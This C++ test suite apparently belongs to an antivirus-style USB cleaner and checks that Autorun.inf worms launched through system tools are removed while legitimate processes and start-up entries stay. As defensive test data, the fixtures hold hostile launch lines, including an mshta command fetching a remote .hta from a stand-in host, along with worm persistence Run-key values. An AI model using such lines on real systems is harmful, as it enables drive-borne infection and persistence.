// Autorun.inf worms that start their payload through a system launcher: the
// payload goes, the launcher process that runs it goes, and the machine's own
// launchers, the user's start-up entries and scripts stay.
#include <cctype>

#include "core/shell.h"
#include "platform/registry.h"
#include "scan/autorun.h"
#include "scan/drive_clean.h"
#include "scan/drive_scan.h"
#include "scan_machine.h"

namespace kestrone {
namespace {

using platform::kHkeyCurrentUser;
using platform::kHkeyLocalMachine;

const char kRunKey[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
const uint32_t kHidden = platform::kAttrHidden | platform::kAttrSystem;

struct LauncherWorm {
    const char* name;
    const char* infLine;      // the launch line of [autorun]
    const char* payload;      // below E:\, where the worm put its file
    const char* exeName;      // the running worm process: snapshot name,
    const char* exePath;      //   executable,
    const char* commandLine;  // and command line, as started from the drive
};

const LauncherWorm kWorms[] = {
    {"rundll32",
     "shellexecute=rundll32.exe .\\RECYCLER\\S-5-3-42-2819952290\\jwgkvsq.vmx,ahaezedrn",
     "RECYCLER\\S-5-3-42-2819952290\\jwgkvsq.vmx", "rundll32.exe",
     "C:\\WINDOWS\\system32\\rundll32.exe",
     "rundll32.exe .\\RECYCLER\\S-5-3-42-2819952290\\jwgkvsq.vmx,ahaezedrn"},
    {"wscript", "shell\\open\\command=wscript.exe //B .\\system\\x.vbs", "system\\x.vbs",
     "wscript.exe", "C:\\WINDOWS\\system32\\wscript.exe", "wscript.exe //B .\\system\\x.vbs"},
    {"cscript quoted", "shell\\open\\command=cscript.exe /nologo \"Sys Files\\run.js\"",
     "Sys Files\\run.js", "cscript.exe", "C:\\WINDOWS\\system32\\cscript.exe",
     "cscript.exe /nologo \"Sys Files\\run.js\""},
    {"cmd start", "shell\\open\\command=cmd.exe /c start .\\bin\\svc.exe & exit", "bin\\svc.exe",
     "svc.exe", "E:\\bin\\svc.exe", "bin\\svc.exe"},
    {"cmd /k script", "shell\\auto\\command=cmd /k \"wscript x.vbs\"", "x.vbs", "cmd.exe",
     "C:\\WINDOWS\\system32\\cmd.exe", "cmd /k \"wscript x.vbs\""},
    {"mshta", "shell\\open\\command=mshta.exe .\\page.hta", "page.hta", "mshta.exe",
     "C:\\WINDOWS\\system32\\mshta.exe", "mshta.exe .\\page.hta"},
    {"regsvr32", "shellexecute=regsvr32 /s .\\srv.ocx", "srv.ocx", "regsvr32.exe",
     "C:\\WINDOWS\\system32\\regsvr32.exe", "regsvr32 /s .\\srv.ocx"},
    {"explorer", "shell\\explore\\command=explorer.exe .\\open.exe", "open.exe", "open.exe",
     "E:\\open.exe", "E:\\open.exe"},
    {"quoted name", "shell\\open\\command=\"Sys Info.exe\" -auto", "Sys Info.exe", "Sys Info.exe",
     "E:\\Sys Info.exe", "\"E:\\Sys Info.exe\" -auto"},
    {"unquoted name", "shell\\open\\command=Sys Info.exe -auto", "Sys Info.exe", "Sys Info.exe",
     "E:\\Sys Info.exe", "\"E:\\Sys Info.exe\" -auto"},
};

class LauncherWormScan : public test::ScanMachine,
                         public ::testing::WithParamInterface<LauncherWorm> {
  protected:
    void SetUp() override {
        ScanMachine::SetUp();
        world().AddDrive('E', platform::kDriveRemovable);
        const std::string system = "C:\\WINDOWS\\system32\\";
        for (const char* file :
             {"rundll32.exe", "wscript.exe", "cscript.exe", "cmd.exe", "shell32.dll"}) {
            world().AddFile(system + file, std::string("MZ system ") + file);
        }
        world().AddFile("C:\\WINDOWS\\explorer.exe", "MZ explorer");
        world().AddFile("C:\\Scripts\\login.vbs", "' the user's log-on script");
        const LauncherWorm& worm = GetParam();
        payload = std::string("E:\\") + worm.payload;
        world().AddFile(payload, std::string("payload of ") + worm.name, kHidden);
        world().AddFile("E:\\Autorun.inf", std::string("[autorun]\r\n") + worm.infLine + "\r\n",
                        kHidden);
        world().AddFile("E:\\thesis.doc", "the user's work");
        // A copy the worm left on the machine, started at log-on.
        world().AddFile(system + "wincopy.dll", std::string("payload of ") + worm.name, kHidden);

        wormProcess = processes().Add(worm.exeName, worm.exePath, worm.commandLine);
        userRundll = processes().Add("rundll32.exe", system + "rundll32.exe",
                                     "rundll32.exe shell32.dll,Control_RunDLL desk.cpl");
        userScript =
            processes().Add("wscript.exe", system + "wscript.exe",
                            "\"C:\\WINDOWS\\system32\\wscript.exe\" C:\\Scripts\\login.vbs");
        userCmd =
            processes().Add("cmd.exe", system + "cmd.exe", "\"C:\\WINDOWS\\system32\\cmd.exe\" /k");
        explorer = processes().Add("explorer.exe", "C:\\WINDOWS\\explorer.exe",
                                   "C:\\WINDOWS\\Explorer.EXE");

        registry().SetString(
            kHkeyLocalMachine, kRunKey, "display",
            "rundll32.exe C:\\WINDOWS\\system32\\shell32.dll,Control_RunDLL desk.cpl");
        registry().SetString(kHkeyCurrentUser, kRunKey, "login",
                             "wscript.exe C:\\Scripts\\login.vbs");
        registry().SetString(kHkeyCurrentUser, kRunKey, "copy",
                             "rundll32.exe \"C:\\WINDOWS\\system32\\wincopy.dll\",Start");
        registry().SetString(kHkeyCurrentUser, kRunKey, "stick", "wscript.exe \"" + payload + "\"");
    }

    void ExpectUsersThingsStay() {
        EXPECT_TRUE(processes().IsRunning(userRundll));
        EXPECT_TRUE(processes().IsRunning(userScript));
        EXPECT_TRUE(processes().IsRunning(userCmd));
        EXPECT_TRUE(processes().IsRunning(explorer));
        EXPECT_TRUE(registry().HasValue(kHkeyLocalMachine, kRunKey, "display"));
        EXPECT_TRUE(registry().HasValue(kHkeyCurrentUser, kRunKey, "login"));
        EXPECT_TRUE(world().Exists("E:\\thesis.doc"));
        EXPECT_TRUE(world().Exists("C:\\WINDOWS\\system32\\rundll32.exe"));
        EXPECT_TRUE(world().Exists("C:\\Scripts\\login.vbs"));
    }

    std::string payload;
    uint32_t wormProcess = 0, userRundll = 0, userScript = 0, userCmd = 0, explorer = 0;
};

TEST_P(LauncherWormScan, TheDriveScanRemovesThePayloadAndNothingElse) {
    EXPECT_EQ(
        ScanAndCleanDrive("E:\\"),
        (TextList{payload + "  cleaned", "E:\\Autorun.inf  cleaned", "E:\\ cleaned completed."}));
    EXPECT_FALSE(world().Exists(payload));
    EXPECT_FALSE(processes().IsRunning(wormProcess));
    EXPECT_FALSE(registry().HasValue(kHkeyCurrentUser, kRunKey, "copy"));   // same file code
    EXPECT_FALSE(registry().HasValue(kHkeyCurrentUser, kRunKey, "stick"));  // names the payload
    ExpectUsersThingsStay();
}

TEST_P(LauncherWormScan, TheArrivalCleanDeletesThePayloadAndTouchesNoProcess) {
    EXPECT_EQ(CleanDriveOnArrival("E:\\"),
              (TextList{payload + "  cleaned", "E:\\Autorun.inf  cleaned"}));
    EXPECT_TRUE(processes().Terminations().empty());
    EXPECT_TRUE(registry().HasValue(kHkeyCurrentUser, kRunKey, "copy"));
    ExpectUsersThingsStay();
}

INSTANTIATE_TEST_SUITE_P(EachLauncher, LauncherWormScan, ::testing::ValuesIn(kWorms),
                         [](const ::testing::TestParamInfo<LauncherWorm>& info) {
                             std::string name;
                             for (const char* c = info.param.name; *c; ++c) {
                                 if (std::isalnum(static_cast<unsigned char>(*c))) name += *c;
                             }
                             return name;
                         });

class LauncherLines : public test::ScanMachine {
  protected:
    void SetUp() override {
        ScanMachine::SetUp();
        world().AddDrive('E', platform::kDriveRemovable);
        world().AddFile("C:\\WINDOWS\\system32\\shell32.dll", "MZ system shell32");
    }
    TextList Parse(const std::string& lines) {
        world().AddFile("E:\\Autorun.inf", "[autorun]\r\n" + lines);
        return ParseAutorunInf("E:\\");
    }
};

TEST_F(LauncherLines, ALauncherAloneOrPointingOffTheDriveNamesNothing) {
    EXPECT_EQ(Parse("shellexecute=rundll32.exe\r\nshell\\open\\command=wscript.exe //B\r\n"
                    "shell\\x\\command=cmd.exe /c C:\\WINDOWS\\evil.exe\r\n"
                    "shell\\y\\command=mshta.exe http://example.invalid/a.hta\r\n"
                    "shell\\z\\command=explorer.exe /e,C:\\\r\n"),
              (TextList{"E:\\Autorun.inf"}));
}

TEST_F(LauncherLines, ProgramsNamedWithoutExtensionAndFakeLaunchersOnTheDrive) {
    world().AddFile("E:\\setup.exe", "worm");
    world().AddFile("E:\\bin\\rundll32.exe", "a worm named like the launcher");
    world().AddFile("E:\\bin\\x.dll", "worm module");
    EXPECT_EQ(Parse("open=x\r\nshellexecute=setup\r\nshell\\open\\command=.\\bin\\rundll32.exe "
                    "bin\\x.dll,Go\r\n"),
              (TextList{"E:\\setup", "E:\\setup.exe", "E:\\bin\\rundll32.exe", "E:\\bin\\x.dll",
                        "E:\\Autorun.inf"}));
}

// A worm copied to a launcher's name (D:\\bin\\rundll32.exe, and a copy on the
// machine running as rundll32.exe): the processes with its file code end, but
// "rundll32.exe" never becomes a name to kill by, so the system's own
// rundll32 processes stay.
TEST_F(LauncherLines, ALaunchersNameNeverBecomesAKillNameEvenForTheWormsCode) {
    world().AddDrive('D', platform::kDriveFixed);
    world().AddFile("C:\\WINDOWS\\system32\\rundll32.exe", "MZ system rundll32.exe");
    world().AddFile("D:\\bin\\rundll32.exe", "MZ the worm under a launcher's name", kHidden);
    world().AddFile("C:\\WINDOWS\\Temp\\rundll32.exe", "MZ the worm under a launcher's name");
    world().AddFile("D:\\Autorun.inf", "[autorun]\r\nshellexecute=bin\\rundll32.exe go\r\n", kHidden);
    uint32_t wormCopy = processes().Add("rundll32.exe", "C:\\WINDOWS\\Temp\\rundll32.exe",
                                        "C:\\WINDOWS\\Temp\\rundll32.exe go");
    uint32_t panel = processes().Add("rundll32.exe", "C:\\WINDOWS\\system32\\rundll32.exe",
                                     "rundll32.exe shell32.dll,Control_RunDLL desk.cpl");
    uint32_t printer = processes().Add("rundll32.exe", "C:\\WINDOWS\\system32\\rundll32.exe",
                                       "rundll32.exe printui.dll,PrintUIEntry");
    ScanAndCleanDrive("D:\\");
    EXPECT_FALSE(world().Exists("D:\\bin\\rundll32.exe"));
    EXPECT_FALSE(processes().IsRunning(wormCopy));
    EXPECT_TRUE(processes().IsRunning(panel));
    EXPECT_TRUE(processes().IsRunning(printer));
    EXPECT_TRUE(world().Exists("C:\\WINDOWS\\system32\\rundll32.exe"));
}

// A DLL the stick carries under a system DLL's name: the stick's copy goes,
// but rundll32 processes that load the system's own DLL by that name stay.
TEST_F(LauncherLines, ABareSystemNameMeansTheSystemsFile) {
    world().AddFile("E:\\Autorun.inf",
                    "[autorun]\r\nshellexecute=rundll32.exe shell32.dll,Control_RunDLL\r\n");
    world().AddFile("E:\\shell32.dll", "worm module");
    uint32_t panel = processes().Add("rundll32.exe", "C:\\WINDOWS\\system32\\rundll32.exe",
                                     "rundll32.exe shell32.dll,Control_RunDLL");
    EXPECT_EQ(ScanAndCleanDrive("E:\\"),
              (TextList{"E:\\shell32.dll  cleaned", "E:\\Autorun.inf  cleaned",
                        "E:\\ cleaned completed."}));
    EXPECT_TRUE(processes().IsRunning(panel));
}

// A specimen of "0000" (an empty or unreadable program) identifies nothing:
// it would otherwise match every unreadable program and every empty file.
TEST_F(LauncherLines, AnEmptySpecimenStartsNoHuntByCode) {
    world().AddDrive('D', platform::kDriveFixed);
    world().AddFile("D:\\Autorun.inf", "[autorun]\r\nshellexecute=empty.exe\r\n");
    world().AddFile("D:\\empty.exe", "");
    world().AddFile("C:\\Tools\\locked.exe", "MZ a program held open");
    world().MakeUnreadable("C:\\Tools\\locked.exe");
    uint32_t locked = processes().Add("locked.exe", "C:\\Tools\\locked.exe");
    registry().SetString(kHkeyCurrentUser, kRunKey, "tool", "C:\\Tools\\locked.exe");
    EXPECT_EQ(ScanAndCleanDrive("D:\\"),
              (TextList{"D:\\empty.exe  cleaned", "D:\\Autorun.inf  cleaned",
                        "D:\\ cleaned completed."}));
    EXPECT_TRUE(processes().IsRunning(locked));
    EXPECT_TRUE(world().Exists("C:\\Tools\\locked.exe"));
    EXPECT_TRUE(registry().HasValue(kHkeyCurrentUser, kRunKey, "tool"));
}

// A worm that calls itself explorer.exe: the copy on the stick is ended
// without the question that closing the desktop asks, and the desktop stays.
TEST_F(LauncherLines, AWormNamedLikeExplorerEndsButTheDesktopStays) {
    world().AddFile("E:\\Autorun.inf", "[autorun]\r\nshell\\open\\command=.\\explorer.exe\r\n");
    world().AddFile("E:\\explorer.exe", "MZ worm");
    world().AddFile("C:\\WINDOWS\\explorer.exe", "MZ the desktop");
    uint32_t worm = processes().Add("explorer.exe", "E:\\explorer.exe", "E:\\explorer.exe");
    uint32_t desktop =
        processes().Add("explorer.exe", "C:\\WINDOWS\\explorer.exe", "C:\\WINDOWS\\Explorer.EXE");
    struct NoQuestions : ShellCallbacks {
        int asked = 0;
        int AskTip(const std::string&, const std::string&, bool& dontShowAgain) override {
            ++asked;
            dontShowAgain = false;
            return 1;
        }
    } shell;
    InstallShell(&shell);
    EXPECT_EQ(ScanAndCleanDrive("E:\\"),
              (TextList{"E:\\explorer.exe  cleaned", "E:\\Autorun.inf  cleaned",
                        "E:\\ cleaned completed."}));
    InstallShell(nullptr);
    EXPECT_FALSE(processes().IsRunning(worm));
    EXPECT_TRUE(processes().IsRunning(desktop));
    EXPECT_EQ(shell.asked, 0);
}

// A stick that carries a true copy of rundll32.exe to start its module: the
// copy goes, but its file code is Windows' own and marks nothing else.
TEST_F(LauncherLines, ACopyOfASystemLauncherMarksNoOtherProcessOrStartupValue) {
    const std::string rundll = "C:\\WINDOWS\\system32\\rundll32.exe";
    world().AddFile(rundll, "MZ Windows' own rundll32");
    world().AddFile("E:\\Autorun.inf",
                    "[autorun]\r\nshellexecute=.\\bin\\rundll32.exe bin\\x.dll,Go\r\n");
    world().AddFile("E:\\bin\\rundll32.exe", "MZ Windows' own rundll32");
    world().AddFile("E:\\bin\\x.dll", "MZ worm module");
    uint32_t worm = processes().Add("rundll32.exe", "E:\\bin\\rundll32.exe",
                                    "E:\\bin\\rundll32.exe bin\\x.dll,Go");
    uint32_t panel =
        processes().Add("rundll32.exe", rundll, rundll + " shell32.dll,Control_RunDLL");
    registry().SetString(kHkeyCurrentUser, kRunKey, "panel",
                         rundll + " shell32.dll,Control_RunDLL");
    EXPECT_EQ(ScanAndCleanDrive("E:\\"),
              (TextList{"E:\\bin\\rundll32.exe  cleaned", "E:\\bin\\x.dll  cleaned",
                        "E:\\Autorun.inf  cleaned", "E:\\ cleaned completed."}));
    EXPECT_FALSE(processes().IsRunning(worm));
    EXPECT_TRUE(processes().IsRunning(panel));
    EXPECT_TRUE(registry().HasValue(kHkeyCurrentUser, kRunKey, "panel"));
    EXPECT_TRUE(world().Exists(rundll));
}

}  // namespace
}  // namespace kestrone
